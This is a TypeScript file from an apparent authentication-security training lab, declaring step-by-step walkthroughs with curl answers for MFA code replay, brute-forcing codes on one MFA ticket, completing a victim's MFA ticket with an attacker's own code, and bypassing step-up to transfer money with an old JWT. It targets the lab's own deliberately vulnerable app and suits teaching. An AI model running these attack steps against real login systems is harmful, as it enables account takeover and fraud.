import type { WalkthroughDeclaration } from '../lab-registry';

/**
 * The MFA lab's hands-on walkthroughs, by attack id (the attack catalogue,
 * `#/attacks`). Each step is checked on the server from what really happened
 * (src/server/labs/mfa/walkthroughs.ts). In the curl answers, $APP stands for
 * the lab's app origin (Settings shows it).
 */

const JSON_HEADER = `-H 'content-type: application/json'`;
const ATTACK_ACCOUNT = (kind: 'victim' | 'attacker') =>
  `curl -s -X POST "$APP/api/lab/mfa/attack-account" ${JSON_HEADER} -d '{"kind":"${kind}"}'`;
const PASSWORD_STEP = `curl -s -X POST "$APP/api/session/login" ${JSON_HEADER} -d '{"email":"<email>","password":"<password>"}'`;
const CODES = `curl -s -X POST "$APP/api/lab/mfa/authenticator" ${JSON_HEADER} -d '{"secret":"<secret>"}'`;

export const MFA_REPLAY_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Sign in as the victim with a code the victim has already used.',
  victim: 'The lab makes the victim’s account for you; you play the victim’s own login first, then the attacker’s.',
  steps: [
    {
      id: 'victim',
      task: 'Make a victim account with MFA on (the lab helper POST /api/lab/mfa/attack-account) and keep its email, password and secret.',
      hint: 'The answer holds all three; the secret is what the victim’s phone holds.',
      answer: ATTACK_ACCOUNT('victim'),
    },
    {
      id: 'first-login',
      task: 'As the victim, sign in: the password step, then the current code from the built-in authenticator.',
      hint: 'POST /api/session/login gives an mfaTicket; POST /api/session/login/mfa takes it with the code. The authenticator helper shows the codes for a secret.',
      answer: `${PASSWORD_STEP}; ${CODES}; curl -s -X POST "$APP/api/session/login/mfa" ${JSON_HEADER} -d '{"mfaTicket":"<ticket>","code":"<code>"}'`,
    },
    {
      id: 'replay',
      task: 'As the attacker who saw that code, sign in again within the same 30 s: the password step, then the same code. Paste the code.',
      hint: 'A code stays inside the server’s window for up to 90 s. With replay protection on, the answer says code_already_used.',
      answer: `${PASSWORD_STEP}; curl -s -X POST "$APP/api/session/login/mfa" ${JSON_HEADER} -d '{"mfaTicket":"<new ticket>","code":"<the same code>"}'`,
      paste: { label: 'The code you used twice' },
    },
  ],
};

export const MFA_BRUTE_FORCE_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Keep one pending MFA login alive through more wrong codes than the limit allows.',
  steps: [
    {
      id: 'ticket',
      task: 'Make a victim with MFA on and pass its password step: you now hold its MFA ticket, not its phone.',
      hint: 'POST /api/lab/mfa/attack-account, then POST /api/session/login with its email and password.',
      answer: `${ATTACK_ACCOUNT('victim')}; ${PASSWORD_STEP}`,
    },
    {
      id: 'guess',
      task: 'Send at least 6 wrong codes on that one ticket, and watch the answers.',
      hint: 'POST /api/session/login/mfa with the same mfaTicket and codes such as 000001, 000002… With the limit on, the fifth wrong code ends the ticket.',
      answer: `for c in 000001 000002 000003 000004 000005 000006; do curl -s -X POST "$APP/api/session/login/mfa" ${JSON_HEADER} -d "{\\"mfaTicket\\":\\"<ticket>\\",\\"code\\":\\"$c\\"}"; echo; done`,
    },
  ],
};

export const MFA_BIND_TICKET_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Finish the victim’s pending MFA login with your own account’s code.',
  steps: [
    {
      id: 'accounts',
      task: 'Make two accounts with MFA on: the victim (whose password you have) and yourself (with your own phone).',
      hint: 'POST /api/lab/mfa/attack-account twice, with kind victim and kind attacker.',
      answer: `${ATTACK_ACCOUNT('victim')}; ${ATTACK_ACCOUNT('attacker')}`,
    },
    {
      id: 'victim-ticket',
      task: 'Pass the victim’s password step: you hold their MFA ticket.',
      hint: 'POST /api/session/login with the victim’s email and password.',
      answer: PASSWORD_STEP,
    },
    {
      id: 'swap',
      task: 'Send the victim’s ticket with a code from your own authenticator, naming your own email in the request.',
      hint: 'POST /api/session/login/mfa takes an optional "email". Does the server check the code of the ticket’s user, or of whoever the request names?',
      answer: `${CODES.replace('<secret>', '<your secret>')}; curl -s -X POST "$APP/api/session/login/mfa" ${JSON_HEADER} -d '{"mfaTicket":"<victim ticket>","code":"<your code>","email":"<your email>"}'`,
    },
  ],
};

export const MFA_STEP_UP_WALKTHROUGH: WalkthroughDeclaration = {
  goal: 'Move money with an access token from an earlier login, proving nothing again.',
  steps: [
    {
      id: 'token',
      task: 'Get an access token of user@authlab.test from the JWT login: it stands for the token found on a shared machine.',
      hint: 'POST /api/jwt/login answers with an accessToken.',
      answer: `curl -s -X POST "$APP/api/jwt/login" ${JSON_HEADER} -d '{"email":"user@authlab.test","password":"<its password, Accounts page>"}'`,
    },
    {
      id: 'transfer',
      task: 'Send money with that token as a Bearer token, without stepping up first.',
      hint: 'POST /api/bank/transfer with {"to": "attacker-account", "amount": 5000}. With step-up on, it asks for a fresh proof: 401 step_up_required.',
      answer: `curl -s -X POST "$APP/api/bank/transfer" ${JSON_HEADER} -H 'authorization: Bearer <accessToken>' -d '{"to":"attacker-account","amount":5000}'`,
    },
  ],
};
